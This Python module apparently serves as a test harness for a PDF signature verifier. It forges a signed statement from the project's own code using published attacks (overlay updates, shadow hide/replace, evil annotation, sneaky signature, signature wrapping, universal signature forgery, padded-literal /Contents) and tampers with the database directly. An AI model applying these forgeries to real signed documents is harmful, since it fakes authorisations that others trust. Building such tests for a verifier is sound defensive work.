"""Published PDF-signature attacks, applied to a statement our own code signed.

Each builder takes the genuine signed bytes and returns the attacked file. The techniques are
those of the PDF-insecurity research (incremental saving, shadow hide/replace, evil
annotation, sneaky signature, certification /Perms and /AcroForm revisions, signature
wrapping, universal signature forgery) plus the padded-literal /Contents that fools a
coverage check based on lengths alone.
"""

from __future__ import annotations

import io
import re
import sqlite3
from collections.abc import Callable
from pathlib import Path

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

OVERLAY = b"BT /F1 28 Tf 1 0 0 rg 40 420 Td (ALL AI USE AUTHORISED - UNLIMITED) Tj ET"


def byte_range(pdf: bytes) -> tuple[int, int, int, int]:
    found = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    a, b, c, d = (int(x) for x in found[-1])
    return a, b, c, d


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _sig_ref(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    ref: generic.IndirectObject = field.raw_get("/V")
    return ref


def _restated(pdf: bytes, build: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """The update also re-states the signature dictionary, its /Contents padded out as a
    literal string (the same width as the hex it replaces, so offsets stay right)."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    build(w)
    sig = _sig_ref(w).get_object()
    value = bytes(sig["/Contents"])
    sig["/Contents"] = generic.ByteStringObject(value)
    w.update_container(sig)
    out = _write(w)
    hex_form = b"<" + value.hex().upper().encode() + b">"
    at = out.rfind(hex_form)
    if at < len(pdf):
        hex_form = b"<" + value.hex().encode() + b">"
        at = out.rfind(hex_form)
    literal = b"(" + value.rstrip(b"\x00").replace(b"\\", b"\\\\") + b")"
    literal = literal[:-1] + b"\x00" * (len(hex_form) - len(literal)) + b")"
    if at >= len(pdf) and len(literal) == len(hex_form):
        out = out[:at] + literal + out[at + len(hex_form) :]
    return out


def overlay(pdf: bytes) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    w.add_stream_to_page(0, w.add_object(generic.StreamObject(stream_data=OVERLAY)))
    return _write(w)


def overlay_restated(pdf: bytes) -> bytes:
    return _restated(
        pdf,
        lambda w: w.add_stream_to_page(0, w.add_object(generic.StreamObject(stream_data=OVERLAY))),
    )


def shadow_hide(pdf: bytes) -> bytes:
    """Paint a white box over the statement's words (hide) and write new ones over it."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    cover = b"q 1 1 1 rg 30 300 540 400 re f Q " + OVERLAY
    w.add_stream_to_page(0, w.add_object(generic.StreamObject(stream_data=cover)))
    return _write(w)


def shadow_replace(pdf: bytes) -> bytes:
    """Point the page at different content altogether."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    page["/Contents"] = w.add_object(generic.StreamObject(stream_data=OVERLAY))
    w.update_container(page)
    return _write(w)


def evil_annotation(pdf: bytes) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    annot = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
            generic.NameObject("/Rect"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (40, 400, 560, 460)]
            ),
            generic.NameObject("/Contents"): generic.TextStringObject(OVERLAY.decode()),
            generic.NameObject("/DA"): generic.TextStringObject("/Helv 20 Tf 1 0 0 rg"),
        }
    )
    annots = page.get("/Annots", generic.ArrayObject())
    annots.append(w.add_object(annot))
    page["/Annots"] = annots
    w.update_container(page)
    return _write(w)


def sneaky_signature(pdf: bytes) -> bytes:
    """A second, empty signature field whose appearance shows new words."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_ref = w.root["/Pages"]["/Kids"][0]
    ap = w.add_object(
        generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(v) for v in (0, 0, 520, 60)]
                ),
            },
            stream_data=OVERLAY,
        )
    )
    field = w.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/FT"): generic.NameObject("/Sig"),
                generic.NameObject("/T"): generic.TextStringObject("Sneaky"),
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(v) for v in (40, 400, 560, 460)]
                ),
                generic.NameObject("/P"): page_ref,
                generic.NameObject("/AP"): generic.DictionaryObject({generic.NameObject("/N"): ap}),
            }
        )
    )
    form = w.root["/AcroForm"].get_object()
    form["/Fields"].append(field)
    w.update_container(form)
    page = page_ref.get_object()
    annots = page.get("/Annots", generic.ArrayObject())
    annots.append(field)
    page["/Annots"] = annots
    w.update_container(page)
    return _write(w)


def perms_removed(pdf: bytes) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    del w.root["/Perms"]
    w.update_root()
    w.add_stream_to_page(0, w.add_object(generic.StreamObject(stream_data=OVERLAY)))
    return _write(w)


def sigflags_changed(pdf: bytes) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    form = w.root["/AcroForm"].get_object()
    form["/SigFlags"] = generic.NumberObject(0)
    w.update_container(form)
    return _write(w)


def literal_contents_in_place(pdf: bytes) -> bytes:
    """The gap rewritten as a literal string of the same length (same bytes signed)."""
    _, len1, start2, _ = byte_range(pdf)
    inner = start2 - len1 - 2
    literal = b"(" + b"0" * inner + b")"
    return pdf[:len1] + literal + pdf[start2:]


def hex_case(pdf: bytes) -> bytes:
    _, len1, start2, _ = byte_range(pdf)
    return pdf[:len1] + pdf[len1:start2].lower() + pdf[start2:]


def wrapping(pdf: bytes) -> bytes:
    """Signature wrapping: the second range moved to a copy appended at the end, new content
    in between (the ByteRange digits rewritten in place, same width)."""
    a, len1, start2, len2 = byte_range(pdf)
    tail = pdf[start2 : start2 + len2]
    insert = b"\n5000 0 obj\n<< /Length 60 >>\nstream\n" + OVERLAY[:60] + b"\nendstream\nendobj\n"
    new_start2 = len(pdf) + len(insert)
    old = b"%d %d %d %d" % (a, len1, start2, len2)
    new = b"%d %d %d %d" % (a, len1, new_start2, len2)
    new = new.ljust(len(old))[: len(old)] if len(new) <= len(old) else new
    moved = pdf.replace(old, new, 1)
    return moved + insert + tail


def truncated_to_unsigned(pdf: bytes) -> bytes:
    return pdf[: pdf.index(b"%%EOF") + 6]


def truncated_tail(pdf: bytes) -> bytes:
    return pdf[:-1]


def truncated_half(pdf: bytes) -> bytes:
    return pdf[: len(pdf) // 2]


def appended_comment(pdf: bytes) -> bytes:
    return pdf + b"% nothing to see here\n"


def appended_whitespace(pdf: bytes) -> bytes:
    return pdf + b"\n\n"


def universal_forgery(pdf: bytes) -> bytes:
    """USF: /Contents zeroed (and /ByteRange of the re-stated dictionary empty)."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    sig = _sig_ref(w).get_object()
    sig["/Contents"] = generic.ByteStringObject(b"\x00" * 8)
    sig["/ByteRange"] = generic.ArrayObject([generic.NumberObject(0)] * 4)
    w.update_container(sig)
    w.add_stream_to_page(0, w.add_object(generic.StreamObject(stream_data=OVERLAY)))
    return _write(w)


def _escaped(raw: bytes) -> bytes:
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def overlay_length_sum(pdf: bytes) -> bytes:
    """The reported attack exactly: an overlay update that re-states the signature dictionary
    with a padded *literal* /Contents sized so that file length = ByteRange lengths +
    2 × /Contents length + 2 (what a length-only coverage check calls "entire file")."""
    from reports.verification.cms_check import signature_der

    _, len1, start2, _ = byte_range(pdf)
    original = bytes.fromhex(pdf[len1 + 1 : start2 - 1].decode())
    der, _ = signature_der(original)
    escapes = len(_escaped(der)) - len(der)

    def build(k: int, pad: int) -> tuple[bytes, int]:
        w = IncrementalPdfFileWriter(io.BytesIO(pdf))
        w.add_stream_to_page(0, w.add_object(generic.StreamObject(stream_data=OVERLAY)))
        sig = _sig_ref(w).get_object()
        sig["/Contents"] = generic.ByteStringObject(b"\x00" * k)
        w.update_container(sig)
        w.root["/ConsentDeskPad"] = generic.TextStringObject("x" * pad)
        w.update_root()
        return _write(w), k

    k, pad = len(original), 0
    out = pdf
    for _ in range(12):
        out, k = build(k, pad)
        update = len(out) - len(pdf)
        u0 = update - (2 * k + 2)
        if u0 % 2:
            pad += 1
            continue
        want = (u0 + 2) // 2 + escapes + (start2 - len1 - 2) // 2
        if want == k:
            break
        k = want
    hex_zeros = b"<" + b"00" * k + b">"
    at = out.rfind(hex_zeros)
    m = 2 * k - escapes
    literal = b"(" + _escaped(der) + b"\x00" * (m - len(der)) + b")"
    assert at > len(pdf) and len(literal) == len(hex_zeros)
    return out[:at] + literal + out[at + len(hex_zeros) :]


ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "incremental update: overlay + padded literal /Contents, length sum matches": (
        overlay_length_sum
    ),
    "incremental update: page overlay": overlay,
    "incremental update: overlay + re-stated signature, padded literal /Contents": (
        overlay_restated
    ),
    "shadow hide (cover + new words)": shadow_hide,
    "shadow replace (page content swapped)": shadow_replace,
    "evil FreeText annotation": evil_annotation,
    "sneaky second signature field": sneaky_signature,
    "/Perms removed (+ overlay)": perms_removed,
    "/AcroForm SigFlags changed": sigflags_changed,
    "literal /Contents in place of the hex gap": literal_contents_in_place,
    "hex digits of the gap in another case": hex_case,
    "signature wrapping (second range moved)": wrapping,
    "universal signature forgery (re-stated empty signature)": universal_forgery,
    "truncated to the unsigned revision": truncated_to_unsigned,
    "truncated by one byte": truncated_tail,
    "truncated to half": truncated_half,
    "appended comment": appended_comment,
    "appended whitespace": appended_whitespace,
}


def run_sql(path: Path, *statements: str) -> None:
    """Change a database file behind the application's back."""
    con = sqlite3.connect(path)
    try:
        for sql in statements:
            con.execute(sql)
        con.commit()
    finally:
        con.close()
